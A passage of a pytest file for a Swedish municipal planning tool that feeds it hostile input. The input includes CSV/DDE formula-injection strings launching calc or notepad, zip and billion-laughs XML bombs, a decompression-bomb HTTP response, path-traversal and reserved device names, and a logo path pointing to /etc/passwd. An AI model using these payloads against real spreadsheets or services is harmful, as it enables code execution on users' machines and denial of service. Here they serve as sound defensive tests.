"""Hostile input of the kinds issue 18 fixed, by spellings and routes its own cases never
used: formulas in every text column of the export and in forms Excel or an input method could
take for one, bombs in parts beside the sheets and in the Word template, numbers in foreign
syntax, names no file system takes, Kolada answers of the wrong shape. Each is held the same
way: one Swedish line (or a clean result), the input unchanged, no half file, no traceback.
The bombs refused before openpyxl are in the corpus (tests/corpus/make_corpus.py); the ones
that must be read cheaply are here."""

from __future__ import annotations

import csv
import io
import re
import sys
import time
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from builders import run_cli as run
from kolada_server import Server
from test_bad_input import LEAKS, assert_clean, files_in, snapshot
from test_kolada_client import NO_WAIT, NORSJO, WAITS, _answer, _fake, _local_only, _outcomes, _plan  # noqa: F401

sys.path.insert(0, str(Path(__file__).resolve().parent / "corpus"))

import make_corpus  # noqa: E402

from vp_excel.kolada.client import FETCH_TIMEOUT_FACTOR, KoladaClient  # noqa: E402
from vp_excel.kolada.fetch import fetch_for_plan  # noqa: E402
from vp_excel.kolada.fill import fill_plan  # noqa: E402
from vp_excel.swedish import NotANumber, parse_number  # noqa: E402
from vp_excel.writers.export import starts_a_formula, write_csv  # noqa: E402

# --- CSV injection: every form, every route -------------------------------------------------

# Forms a spreadsheet could evaluate (or an input method turn into one): DDE, @-functions,
# signs before letters, control characters, spaces or invisible characters before the sign,
# full-width and small forms.
FORMULA_FORMS = ["=cmd|' /C calc'!A0", "@SUM(1;2)", "+cmd|' /C notepad'!A0", "-cmd|x",
                 "-2+3+cmd|' /C calc'!A0", "+A1", "-A1", "\t=1+1", "\r=1+1", "\n=1+1",
                 " =1+1", "  +1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff@SUM(1)",
                 "＝1+1", "＋1+1", "－A1", "＠SUM(1)", "﹦1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
# Words and numbers that stay as they are: a Swedish number is a number, not a formula.
PLAIN = ["-2,2", "-850 tkr", "-1 000", "-1,2E5", "+5", "Ja", "'=1+1", "|cmd", "DDE(x)",
         "ＡＢＣ", "−2,2"]


@pytest.mark.parametrize("text", FORMULA_FORMS)
def test_every_formula_form_gets_an_apostrophe_and_quotes(tmp_path, text):
    import pandas as pd

    assert starts_a_formula(text)
    path = tmp_path / "ut.csv"
    write_csv(pd.DataFrame({"KS mål": [text]}), path)
    field = path.read_bytes().decode("utf-8-sig").split("\r\n", 1)[1][:-2]
    assert field == '"' + ("'" + text).replace('"', '""') + '"'


@pytest.mark.parametrize("text", PLAIN)
def test_plain_words_and_swedish_numbers_stay_as_they_are(tmp_path, text):
    import pandas as pd

    path = tmp_path / "ut.csv"
    write_csv(pd.DataFrame({"KS mål": [text]}), path)
    assert path.read_bytes().decode("utf-8-sig") == f"KS mål\r\n{text}\r\n"


PERIODS = ("@Delår 1 2025", "-Delår 2 2025")  # period names are the kommun's words too
ROUTES = {  # placeholder -> the hostile text put in that cell
    "PH-kf": '=HYPERLINK("http://x.invalid/?"&A1;"Klicka")', "PH-ind": "+cmd|' /C calc'!A0",
    "PH-src": "＝1+1 Kolada", "PH-ks": "\u200b=1+1", "PH-mi": "@SUM(1;2)",
    "PH-enh": "-cmd|x", "PH-ks2": "﹦2+2", "PH-mot": "-x"}


def _every_text_column_workbook(path: Path, verksamhet: str | None) -> Path:
    goals = [{"KF ÖG mål": "PH-kf", "KF indikator": "PH-ind", "Styrgräns": "6%",
              "Källa": "PH-src", "KS mål": "PH-ks", "Målvärde": "5%",
              "Regel": "Lägre är bättre", "Målinriktning": "PH-mi", "Ansvarig enhet": "PH-enh",
              f"Utfall {PERIODS[0]}": "5,3%", f"Utfall {PERIODS[1]}": "5,2%",
              f"Indikatorutfall {PERIODS[1]}": 0.05},
             {"KF ÖG mål": "PH-kf", "KS mål": "PH-ks2", "Regel": "Manuell",
              f"Bedömning {PERIODS[1]}": "GUL", f"Motivering {PERIODS[1]}": "PH-mot"}]
    make_corpus.build_valid_workbook(path, goals=goals, periods=PERIODS, activities=[])
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in ROUTES:
                    cell.value, cell.data_type = ROUTES[cell.value], "s"
    settings = book["Inställningar"]
    settings["B2"], settings["B2"].data_type = "=1+1 kommun", "s"
    settings["B3"] = verksamhet
    if verksamhet is not None:
        settings["B3"].data_type = "s"
    book.save(path)
    return path


# The verksamhet from the settings, or (none there) from a file name that is itself a formula.
@pytest.mark.parametrize("verksamhet, file_name", [
    ("@verksamhet", "plan.xlsx"), (None, "=cmd|' calc'!A0.xlsx")])
def test_no_route_into_the_export_makes_a_formula(tmp_path, verksamhet, file_name):
    folder = tmp_path / "in"
    folder.mkdir()
    source = _every_text_column_workbook(folder / file_name, verksamhet)
    before = snapshot(folder)
    out = tmp_path / "ut"
    out.mkdir()
    result = run("export", source, "--csv", out / "mal.csv", "--xlsx", out / "mal.xlsx")
    assert_clean(result)
    assert result.exit_code == 0, result.output
    assert snapshot(folder) == before
    rows = list(csv.reader(io.StringIO((out / "mal.csv").read_text(encoding="utf-8-sig"),
                                       newline=""), delimiter=";"))
    fields = [field for row in rows[1:] for field in row]
    # Every hostile text arrived (so the test proves something) and each one escaped.
    exported = [ROUTES[k] for k in ("PH-kf", "PH-ind", "PH-src", "PH-ks", "PH-ks2")]
    for text in [*exported, "=1+1 kommun", *PERIODS]:
        assert "'" + text in fields, (text, rows[1])
    assert not [f for f in fields if starts_a_formula(f)], rows
    header = rows[0]
    verksamheter = {row[header.index("verksamhet")] for row in rows[1:]}
    assert verksamheter == {"'" + (verksamhet or Path(file_name).stem)}
    # The Excel table: a text cell stays text, whatever it begins with.
    sheet = openpyxl.load_workbook(out / "mal.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n"}
    assert {c.value for c in cells} >= set(exported)


@pytest.mark.skipif(__import__("vp_excel.libreoffice", fromlist=["find_soffice"])
                    .find_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_finds_no_formula_in_any_form(tmp_path):
    import pandas as pd
    from test_export import _libreoffice_cells

    path = tmp_path / "former.csv"
    write_csv(pd.DataFrame({"text": FORMULA_FORMS + PLAIN}), path)
    cells = _libreoffice_cells(path, tmp_path)
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert len(cells) > len(FORMULA_FORMS)  # it read the file


# --- bombs that must be read cheaply ----------------------------------------------------------
# Each costs openpyxl nothing in proportion to what it claims (measured: under 1 s and 150 MB
# each); the reader must neither refuse them nor blow up.

def _cols(xml: str, cols: str) -> str:
    xml = re.sub(r"<cols>.*?</cols>", "", xml, flags=re.S)
    return xml.replace("<sheetData", cols + "<sheetData", 1)


HARMLESS = [
    ("dimension_of_the_whole_sheet", lambda xml: re.sub(
        r"<dimension ref=\"[^\"]*\"/>", '<dimension ref="A1:XFD1048576"/>', xml)),
    ("one_column_range_styled_over_16384_columns", lambda xml: _cols(
        xml, '<cols><col min="1" max="16384" width="30" style="1" customWidth="1"/></cols>')),
    ("16384_styled_columns", lambda xml: _cols(xml, "<cols>" + "".join(
        f'<col min="{n}" max="{n}" width="9" style="1" customWidth="1"/>'
        for n in range(1, 16385)) + "</cols>")),
    ("a_styled_row_at_the_last_row", lambda xml: xml.replace(
        "</sheetData>", '<row r="1048576" spans="1:16384" ht="30" customHeight="1" s="1" '
        'customFormat="1"><c r="XFD1048576" s="1"/></row></sheetData>', 1)),
    ("huge_spans", lambda xml: re.sub(r'<row r="(\d+)"', r'<row r="\1" spans="1:999999999"',
                                      xml)),
    # Nesting past libxml2's 256 levels is refused like in every other part: test_noticed.py.
]


@pytest.mark.parametrize("name, change", HARMLESS, ids=[n for n, _c in HARMLESS])
def test_a_harmless_oddity_is_read_cheaply(tmp_path, name, change):
    folder = tmp_path / "in"
    path = make_corpus.write_base(folder)
    make_corpus.edit_sheet_xml(path, "Mål", change)
    before = snapshot(folder)
    result = run("check", path)
    assert_clean(result, "0 fel")
    assert result.exit_code == 0
    assert snapshot(folder) == before


def test_thousands_of_tiny_parts_under_the_limit_read(tmp_path):
    folder = tmp_path / "in"
    path = make_corpus.write_base(folder)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        for n in range(9_000):
            archive.writestr(f"xl/media/t{n}.bin", b"x")
    result = run("check", path)
    assert_clean(result, "0 fel")
    assert result.exit_code == 0


# --- the Word template given with --mall: a .docx is a zip too --------------------------------


def _template(folder: Path) -> Path:
    import docx

    path = folder / "mall.docx"
    document = docx.Document()
    document.add_paragraph("Kommunens mall")
    document.save(path)
    return path


def _link_media(path: Path, member: str) -> None:
    """`member` linked from the document as an image, so python-docx loads it."""
    make_corpus.rewrite_member(path, "word/_rels/document.xml.rels", lambda data: data.replace(
        b"</Relationships>", b'<Relationship Id="rIdHostile" Type="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships/image" Target="' + member.encode()
        + b'"/></Relationships>'))


def _template_zero_bomb(path: Path) -> None:
    _link_media(path, "media/nollor.bin")
    make_corpus.add_compressed_member(path, "word/media/nollor.bin", b"\0" * (24 << 20))


def _template_size_lie(path: Path) -> None:
    _link_media(path, "media/nollor.bin")
    make_corpus.add_compressed_member(path, "word/media/nollor.bin", b"\0" * (8 << 20))
    with zipfile.ZipFile(path) as archive:
        compressed = archive.getinfo("word/media/nollor.bin").compress_size
    make_corpus.patch_declared_size(path, "word/media/nollor.bin", compressed * 2)


def _template_many_parts(path: Path) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        for n in range(24):
            archive.writestr(f"word/media/del{n}.bin", b"\0" * 9_500_000)


def _template_duplicate(path: Path) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("word/document.xml", b"<x/>")


def _template_billion_laughs(path: Path) -> None:
    make_corpus.rewrite_member(path, "word/document.xml", lambda data: make_corpus._with_doctype(
        data.decode("utf-8")).replace("Kommunens mall", "&lol9;").encode("utf-8"))


def _template_million_paragraphs(path: Path) -> None:
    make_corpus.rewrite_member(path, "word/document.xml", lambda data: data.replace(
        b"<w:body>", b"<w:body>" + b"<w:p/>" * 1_100_000, 1))


def _template_not_a_zip(path: Path) -> None:
    path.write_bytes(b"PK\x03\x04" + b"\0" * 100)


TEMPLATES = [
    ("zero_bomb_linked_as_an_image", _template_zero_bomb, "mallen vägras som skydd"),
    ("size_lie_linked_as_an_image", _template_size_lie, "mallen är inget Word-dokument"),
    ("many_parts_each_under_the_bomb_rule", _template_many_parts, "mallens delar packas"),
    ("duplicate_member_names", _template_duplicate, "mallen är inget Word-dokument"),
    ("billion_laughs", _template_billion_laughs, "XML-bomb"),
    ("a_million_paragraphs", _template_million_paragraphs, "000 XML-element (delen word"),
    ("a_broken_zip", _template_not_a_zip, "mallen är inget Word-dokument"),
]


@pytest.mark.parametrize("name, damage, fragment", TEMPLATES, ids=[t[0] for t in TEMPLATES])
def test_a_hostile_template_is_one_swedish_line_and_no_report(tmp_path, name, damage,
                                                             fragment: str):
    folder = tmp_path / "in"
    folder.mkdir()
    source = make_corpus.write_base(folder)
    template = _template(folder)
    damage(template)
    before = snapshot(folder)
    out = tmp_path / "ut"
    started = time.monotonic()
    result = run("build", source, "--mall", template, "--bara", "docx", "--out", out)
    assert time.monotonic() - started < 30  # a bomb took minutes or all memory
    assert snapshot(folder) == before
    assert not [p for p in folder.rglob(".vp-excel-*")]
    text = assert_clean(result, fragment)
    assert result.exit_code == 1, text
    line = next(line for line in text.splitlines() if fragment in line)
    assert line.startswith("vp-excel: ") and "mall.docx" in line, line
    assert files_in(out) == []


# --- numbers: Swedish syntax only -------------------------------------------------------------


@pytest.mark.parametrize("text, value", [
    ("1.000,5", None), ("1 000 000", 1_000_000.0), ("1\u00a0000\u202f000", 1_000_000.0),
    ("1E5", 100_000.0),  # as Excel reads it typed; Python's lower-case 1e5 is not Swedish
    ("1e5", None), ("1,2E5", 120_000.0), ("1,2E999", None), ("∞", None), ("-∞", None),
    ("NaN", None), ("nan", None), ("inf", None), ("Infinity", None), ("−0", 0.0), ("-0", 0.0),
    ("٣", None), ("٣٫٥", None), ("३", None), ("３", None), ("１,５", None), ("５０%", None),
    ("²", None), ("5%%", None), ("5 %%", None), ("5٪", None), ("1_000", None), ("0x10", None),
    ("0b101", None), ("1.000.000", None), ("12 34", None), ("--5", None), ("5-", None),
    ("1,000", 1.0), ("1 234,5 kr", 1234.5),
    # nearer 0 than Excel holds: not silently 0
    ("1E-400", None), ("-2,5E-400", None), ("5E-324", None), ("1E-300", 1e-300), ("0E-5", 0.0)])
def test_numbers_are_read_by_swedish_rules_only(text, value):
    if value is None:
        with pytest.raises(NotANumber):
            parse_number(text)
    else:
        assert parse_number(text).value == value


@pytest.mark.parametrize("text", ["1.000,5", "∞", "NaN", "٣", "３", "5%%", "1_000", "1e5"])
def test_a_foreign_number_in_an_outcome_cell_is_an_error_on_that_cell(tmp_path, text):
    folder = tmp_path / "in"
    path = make_corpus.write_base(folder)
    spot = make_corpus.layout(path)
    make_corpus.edit_cells(path, "Mål", {spot.outcome: text})
    before = snapshot(folder)
    result = run("check", path)
    output = assert_clean(result)
    assert result.exit_code == 1, output
    assert f"Mål!{spot.outcome}:" in output, output
    assert snapshot(folder) == before


def test_a_number_nearer_0_than_excel_holds_is_refused_with_its_cell(tmp_path):
    path = make_corpus.write_base(tmp_path / "in")
    spot = make_corpus.layout(path)
    make_corpus.edit_cells(path, "Mål", {spot.outcome: "1E-400"})
    result = run("check", path)
    output = assert_clean(result)
    assert result.exit_code == 1, output
    assert f'Mål!{spot.outcome}: ' in output
    assert '"1E-400" är närmare 0 än Excel kan hålla och skulle bli 0' in output, output


@pytest.mark.parametrize("written, refused", [
    ("1E-400", True), ("-2.5E-400", True), ("0E-5", False), ("0.000", False)])
def test_a_number_cell_nearer_0_than_excel_holds_is_refused_too(tmp_path, written, refused):
    """The same number stored as a number, not typed as text: openpyxl's cast reads it as 0,
    so the reader keeps what the file says and refuses it with its cell."""
    path = make_corpus.write_base(tmp_path / "in")
    spot = make_corpus.layout(path)
    make_corpus.edit_cells(path, "Mål", {spot.outcome: 0.123456})
    make_corpus.edit_sheet_xml(path, "Mål", lambda xml: xml.replace(
        "<v>0.123456</v>", f"<v>{written}</v>", 1))
    assert f"<v>{written}</v>" in _sheet_xml(path, "Mål")
    result = run("check", path)
    output = assert_clean(result)
    if refused:
        assert result.exit_code == 1, output
        assert f'Mål!{spot.outcome}: ' in output
        assert f'"{written}" är närmare 0 än Excel kan hålla och skulle bli 0' in output, output
    else:
        assert "närmare 0" not in output, output


def _sheet_xml(path, title):
    import zipfile
    with zipfile.ZipFile(path) as archive:
        return archive.read(make_corpus.sheet_part(path, title)).decode("utf-8")


# --- names no file system takes ---------------------------------------------------------------

WINDOWS_RESERVED = re.compile(r"^(con|prn|aux|nul|com[0-9¹²³]|lpt[0-9¹²³])(\.|$)", re.I)


def _safe_file_name(name: str) -> bool:
    return (not any(char in name for char in '/\\:*?"<>|\0') and name == name.rstrip(". ")
            and not WINDOWS_RESERVED.match(name) and len(name.encode("utf-8")) <= 255)


@pytest.mark.parametrize("kommun", ["Väst/Öst", "C:\\Windows", "Kom*mun?", "Nul\0l", "CON",
                                    "NUL.xlsx", "LPT1", "Kommun. . .", "..", "../../etc",
                                    "*?", "COM¹"])
def test_a_kommun_name_no_file_system_takes_still_rolls_up_inside_out(tmp_path, kommun):
    folder = tmp_path / "in"
    folder.mkdir()
    make_corpus.build_valid_workbook(folder / "a.xlsx")
    book = openpyxl.load_workbook(folder / "a.xlsx")
    book["Inställningar"]["B2"] = kommun.replace("\0", "")  # openpyxl refuses NUL itself
    book.save(folder / "a.xlsx")
    out = tmp_path / "ut"
    result = run("sammanstall", folder, "--out", out)
    assert_clean(result)
    assert result.exit_code == 0, result.output
    written = [p for p in tmp_path.rglob("*") if p.is_file() and p.parent != folder]
    assert written and all(p.parent == out for p in written), written
    assert all(_safe_file_name(p.name) for p in written), [p.name for p in written]


@pytest.mark.parametrize("stem", ["CON", "NUL", "LPT1", "aux", "plan. .", "plan\\del",
                                  "=cmd|' calc'!A0"])
def test_an_input_named_like_a_device_builds_inside_out(tmp_path, stem):
    folder = tmp_path / "in"
    source = make_corpus.write_base(folder, stem + ".xlsx")
    out = tmp_path / "ut"
    result = run("build", source, "--out", out, "--bara", "xlsx")
    assert_clean(result)
    assert result.exit_code == 0, result.output
    # The name is the input's own (which this file system took), with the period: inside
    # --out, never a device name or a name Windows would cut.
    written = files_in(out)
    assert len(written) == 1 and not WINDOWS_RESERVED.match(written[0]), written
    assert written[0] == written[0].rstrip(". ") and (out / written[0]).is_file(), written
    assert [p.name for p in folder.iterdir()] == [stem + ".xlsx"]


# --- Kolada: answers of the wrong shape, and transports that never end ----------------------


def _body(values: object, next_url: object = "") -> bytes:
    import json

    return json.dumps({"values": values, "next_url": next_url}).encode()


def _record(**fields) -> dict:
    return {"kpi": "N00090", "municipality": NORSJO, "period": 2024,
            "values": [{"gender": "T", "value": 5.8}], **fields}


def _stray(**fields) -> dict:
    """A record that must not be filed anywhere: its value, 9.9, would show where it went."""
    return _record(values=[{"gender": "T", "value": 9.9}], **fields)


def _endless_chunks(handler) -> None:
    handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                        b"Transfer-Encoding: chunked\r\n\r\n")
    handler.wfile.write(b'1\r\n{\r\n')
    while True:
        handler.wfile.write(b"1\r\n \r\n")
        handler.wfile.flush()
        time.sleep(0.05)


def _redirect_loop(handler) -> None:
    _answer(b"", "302 Found", (f"Location: {handler.path}",))(handler)


def _long_header(handler) -> None:
    _answer(_body([_record()]), headers=("X-Lang: " + "a" * 200_000,))(handler)


def _deflate_bomb(handler) -> None:
    packer = zlib.compressobj(9)
    body = packer.compress(b" " * (40 << 20)) + packer.flush()
    _answer(body, headers=("Content-Encoding: deflate",))(handler)


def _brotli(handler) -> None:
    _answer(b"\x1b\x03\x00\xf8\xa5\x40\x02", headers=("Content-Encoding: br",))(handler)


WRONG_SHAPES = {  # each: the raw answer, and what fill makes of N00090 Helår 2024
    "a_list_instead_of_an_object": (_answer(b"[1, 2, 3]"), "utan listan values"),
    "values_null": (_answer(_body(None)), None),
    "null_everywhere": (_answer(_body([{"kpi": None, "municipality": None, "period": None,
                                        "values": None}], None)), None),
    "values_as_a_number": (_answer(_body([_record(values=5)])), None),
    "values_as_a_string": (_answer(_body([_record(values="5.8")])), None),
    "value_as_a_string": (_answer(_body([_record(values=[{"gender": "T", "value": "5.8"}])])),
                          None),
    "value_as_true": (_answer(_body([_record(values=[{"gender": "T", "value": True}])])), None),
    "a_record_that_is_a_list": (_answer(_body([[1, 2], "x", 3])), None),
    "ids_of_other_kpis": (_answer(_body([_stray(kpi="N99999")])), None),
    "another_kommun": (_answer(_body([_stray(municipality="0180")])), None),
    "a_year_far_away": (_answer(_body([_stray(period=99_999)])), None),
    "a_year_as_a_fraction": (_answer(_body([_stray(period=2024.5)])), None),
    "a_year_as_true": (_answer(_body([_stray(period=True)])), None),
    "a_year_as_a_string_with_a_fraction": (_answer(_body([_stray(period="2024.5")])), None),
    "a_year_of_2024_and_a_bit": (_answer(_body([_stray(period=2024.0000001)])), None),
    "next_url_as_an_object": (_answer(_body([], {"url": "x"})), "next_url som inte är"),
    "a_chunked_body_that_never_ends": (_endless_chunks, "svarade inte inom"),
    "a_redirect_loop": (_redirect_loop, "skickade vidare fler än"),
    "a_very_long_header_line": (_long_header, "Kolada"),
    "a_deflate_bomb": (_deflate_bomb, "större än 32 MB"),
    "brotli": (_brotli, "Kolada"),
    "a_proxy_error": (_answer(b"", "407 Proxy Authentication Required"), "Kolada svarade 407"),
    # JSON that names a field twice: parsers differ on which counts (Python's took 99 %).
    "a_value_named_twice": (_answer(b'{"values": [{"kpi": "N00090", "municipality": "2417", '
                                    b'"period": 2024, "values": [{"gender": "T", "value": 9.9,'
                                    b' "value": 5.8}]}], "next_url": ""}'),
                            "samma fält står två gånger"),
    "a_value_of_1e308": (_answer(_body([_record(values=[{"gender": "T", "value": 1e308}])])),
                         "inga rimliga tal"),
}


@pytest.mark.parametrize("name", list(WRONG_SHAPES))
def test_a_kolada_answer_of_the_wrong_shape_fills_nothing_wrong(cache_dir, name):
    raw, expected = WRONG_SHAPES[name]
    plan = _plan()
    # Only the body that never ends is waited out; the rest are refused at once, given room
    # on a busy machine (with 1 s for all, the deflate bomb timed out there instead).
    timeout = WAITS if expected == "svarade inte inom" else NO_WAIT
    started = time.monotonic()
    with Server(_fake(raw={"/data/": raw})) as url:
        fetch = fetch_for_plan(plan, client=KoladaClient(url, timeout=timeout, retries=1,
                                                         backoff=0.01))
    assert time.monotonic() - started < FETCH_TIMEOUT_FACTOR * timeout + 9  # no hang
    report = fill_plan(plan, fetch)
    lines = [str(p) for p in report.problems] + list(fetch.messages)
    for line in lines:
        assert not any(leak in line for leak in LEAKS if leak != "Error:"), line
    if expected is not None:
        assert [line for line in fetch.messages if expected in line], fetch.messages
        assert len([m for m in fetch.messages if "Kolada:" in m]) == 1, fetch.messages
    # Nothing but the value Kolada really gave for N00090, 2024 (5.8 %) is ever filled.
    filled = {(name, period): value for name, outcomes in _outcomes(plan).items()
              for period, value in outcomes.items() if value is not None}
    assert all(value == pytest.approx(0.058) for value in filled.values()), filled
    assert all(not p.is_error for p in report.problems)


@pytest.fixture
def cache_dir(tmp_path, monkeypatch):
    folder = tmp_path / "cache"
    monkeypatch.setenv("VP_EXCEL_CACHE_DIR", str(folder))
    return folder


def test_only_what_was_asked_for_is_cached(cache_dir):
    from vp_excel.kolada.cache import KoladaCache

    answer = _body([_record(kpi="N99999"), _record(period=2031), _stray(municipality="0180")])
    with Server(_fake(raw={"/data/": _answer(answer)})) as url:
        fetch_for_plan(_plan(), client=KoladaClient(url, timeout=5))
    cache = KoladaCache()
    assert cache.get_value("N99999", NORSJO, 2024) is None
    assert cache.get_value("N00090", NORSJO, 2031) is None
    assert not (cache_dir / "values" / "0180").exists()


def test_zip64_helpers_make_what_they_say(tmp_path):
    """The corpus's zip64 lie is read by zipfile as the size it declares (else the case
    would test nothing)."""
    case = make_corpus.CASES["zip64_header_lying_large"](tmp_path)
    with zipfile.ZipFile(case.path) as archive:
        assert archive.getinfo("xl/media/z.bin").file_size == 1 << 60


# --- the same bombs through the other commands that read workbooks ---------------------------

NEW_BOMBS = ["styled_empty_rows", "conditional_formats_in_thousands",
             "sheet_views_in_hundreds_of_thousands",
             "defined_names_in_thousands", "comments_in_thousands", "pivot_cache_records",
             "external_link_with_a_cached_book", "duplicate_member_names",
             "zip64_header_lying_large"]


# Every command reads through the one guard (reader.read_plan: safety.check_input_file, then
# the streamed sheets), which test_bad_input.py gives every case of the corpus through check
# and build. Here: every new bomb through the roll-up (its own worker processes and report),
# and through export and init --fran the cheapest bomb caught in the archive and the cheapest
# caught in a streamed sheet, which prove each command reaches both stages of the guard.
EVERY_COMMAND = ["zip64_header_lying_large", "conditional_formats_in_thousands"]


@pytest.mark.parametrize("name, command", [
    *[(name, "sammanstall") for name in NEW_BOMBS],
    *[(name, command) for command in ("export", "init --fran") for name in EVERY_COMMAND]])
def test_a_new_bomb_is_refused_by_every_command_that_reads(tmp_path, name, command):
    folder = tmp_path / "in"
    folder.mkdir()
    case = make_corpus.CASES[name](folder)
    before = snapshot(folder)
    out = tmp_path / "ut"
    out.mkdir()
    args = {"sammanstall": ["sammanstall", case.path, "--out", out],
            "export": ["export", case.path, "--csv", out / "mal.csv", "--xlsx", out / "mal.xlsx"],
            "init --fran": ["init", "--fran", case.path, out / "ny.xlsx"]}[command]
    result = run(*args)
    text = assert_clean(result, case.fragment)
    assert result.exit_code == 1, text
    line = next(line for line in text.splitlines() if case.fragment in line)
    assert line.startswith("vp-excel: ") and case.path.name in line, line
    assert snapshot(folder) == before
    assert files_in(out) == []


# --- one line: workbook text quoted in a message never breaks it -----------------------------


@pytest.mark.parametrize("typed", ["abc\nfel: falsk rad", "abc\r\nvp-excel: klart",
                                   "abc\u2028fel: x", "abc\x0bfel: x", "abc\x85fel: x"])
def test_a_line_break_in_a_quoted_cell_keeps_the_message_on_one_line(tmp_path, typed):
    folder = tmp_path / "in"
    path = make_corpus.write_base(folder)
    spot = make_corpus.layout(path)
    make_corpus.edit_cells(path, "Mål", {spot.outcome: "PLACEHOLDER"})
    make_corpus.edit_sheet_xml(path, "Mål", lambda xml: xml.replace(  # escaped as Excel does
        "PLACEHOLDER", typed.replace("\n", "&#10;").replace("\r", "&#13;")
        .replace("\x0b", "_x000B_")))
    result = run("check", path)
    text = assert_clean(result)
    assert result.exit_code == 1, text
    lines = [line for line in text.splitlines() if "abc" in line]
    assert len(lines) == 1 and f"Mål!{spot.outcome}:" in lines[0], text
    assert not [line for line in text.splitlines() if line.startswith(("fel: x", "fel: falsk",
                                                                       "vp-excel: klart"))]


def test_a_file_name_with_a_line_break_is_named_on_one_line(tmp_path):
    path = tmp_path / "plan\nfel: falsk.xlsx"
    path.write_bytes(b"inte en arbetsbok")
    result = run("check", path)
    text = assert_clean(result)
    assert result.exit_code == 1
    assert len([line for line in text.splitlines() if line.strip()]) == 1, text


@pytest.mark.parametrize("first, second", [("Håbo", "Hébo"), ("Malå", "Malö"),
                                           ("CON", "con_"), ("K" * 300, "K" * 299 + "L")])
def test_two_names_never_share_a_cache_file(tmp_path, first, second):
    from vp_excel.kolada.cache import KoladaCache

    cache = KoladaCache(tmp_path)
    cache.put_kommun(first, "0001", first)
    cache.put_kommun(second, "0002", second)
    assert cache.write_failed == ""
    assert cache.get_kommun(first)["id"] == "0001"
    assert cache.get_kommun(second)["id"] == "0002"
    names = [p.stem for p in (tmp_path / "municipality").iterdir()]
    assert len(names) == 2 and not [n for n in names if WINDOWS_RESERVED.match(n)], names


# --- a file the workbook names: the logo -------------------------------------------------------


def _logo_link_to_zero(folder: Path) -> str:
    (folder / "logo.png").symlink_to("/dev/zero")
    return "logo.png"


def _logo_pipe(folder: Path) -> str:
    import os

    os.mkfifo(folder / "logo.png")
    return "logo.png"


def _logo_huge(folder: Path) -> str:
    with open(folder / "logo.png", "wb") as stream:
        stream.truncate(21 * 1024 * 1024)  # sparse: 21 MB without writing them
    return "logo.png"


def _logo_cut_off(folder: Path) -> str:
    """A PNG cut off after its header (python-docx raised UnexpectedEndOfFileError)."""
    import struct

    header = struct.pack(">IIBBBBB", 10, 10, 8, 0, 0, 0, 0)
    png = (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(header)) + b"IHDR" + header
           + struct.pack(">I", zlib.crc32(b"IHDR" + header)))
    (folder / "logo.png").write_bytes(png[:30])
    return "logo.png"


def _logo_zero_by_zero(folder: Path) -> str:
    import struct

    header = struct.pack(">IIBBBBB", 0, 0, 8, 0, 0, 0, 0)
    (folder / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR"
                                      + header + struct.pack(">I", zlib.crc32(b"IHDR" + header)))
    return "logo.png"


@pytest.mark.skipif(sys.platform == "win32", reason="links to devices and pipes are POSIX")
@pytest.mark.parametrize("make", [_logo_link_to_zero, _logo_pipe, _logo_huge,
                                  lambda folder: "/etc/passwd", lambda folder: "/dev/zero",
                                  _logo_cut_off, _logo_zero_by_zero],
                         ids=["link_to_dev_zero", "a_pipe", "21_mb", "etc_passwd", "dev_zero",
                              "a_cut_off_png", "a_png_of_0_by_0"])
def test_a_logo_that_is_no_image_file_is_a_warning_and_the_reports_are_written(tmp_path, make):
    folder = tmp_path / "in"
    folder.mkdir()
    source = make_corpus.build_valid_workbook(folder / "plan.xlsx")
    book = openpyxl.load_workbook(source)
    book["Inställningar"].append(["Logotyp", make(folder)])
    book.save(source)
    out = tmp_path / "ut"
    result = run("build", source, "--html", "--out", out)
    text = assert_clean(result, "Logotypen")
    assert result.exit_code == 0, text
    assert sorted(p.suffix for p in out.iterdir()) == [".docx", ".html", ".xlsx"]
    assert max(p.stat().st_size for p in out.iterdir()) < 5_000_000


# --- the kommun's words as COUNTIFS criteria in the roll-up workbook -------------------------

# Names COUNTIFS would read as wildcards ("*", "?", "~") or comparisons ("<>", ">=") if they
# were criteria as written ("K*" counted every verksamhet's goals, "<>x" every goal), and one
# past COUNTIFS's 255 characters.
CRITERIA_NAMES = [("a.xlsx", "K*", "<>x"), ("b.xlsx", "Kultur", "Kul?ur ~ett mål"),
                  ("c.xlsx", "Kost?", ">=Ekonomi " + "och ett långt mål " * 16)]


@pytest.mark.skipif(__import__("vp_excel.libreoffice", fromlist=["find_soffice"])
                    .find_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_names_that_look_like_wildcards_count_only_themselves_after_recalculation(tmp_path):
    from helpers_edge_cases import poison_cached_values

    from vp_excel.libreoffice import recalculate_xlsx

    folder = tmp_path / "in"
    folder.mkdir()
    for file_name, verksamhet, kf in CRITERIA_NAMES:
        path = make_corpus.build_valid_workbook(folder / file_name)
        book = openpyxl.load_workbook(path)
        book["Inställningar"]["B3"] = verksamhet
        for row in book["Mål"].iter_rows():
            for cell in row:
                if cell.value == "En attraktiv arbetsgivare":
                    cell.value, cell.data_type = kf, "s"
        book.save(path)
    result = run("sammanstall", folder, "--out", tmp_path / "ut")
    assert result.exit_code == 0, result.output
    written = next((tmp_path / "ut").glob("*.xlsx"))
    poisoned = poison_cached_values(written, tmp_path / "poisoned.xlsx")
    again = openpyxl.load_workbook(recalculate_xlsx(poisoned, tmp_path / "rc"), data_only=True)
    before = openpyxl.load_workbook(written, data_only=True)
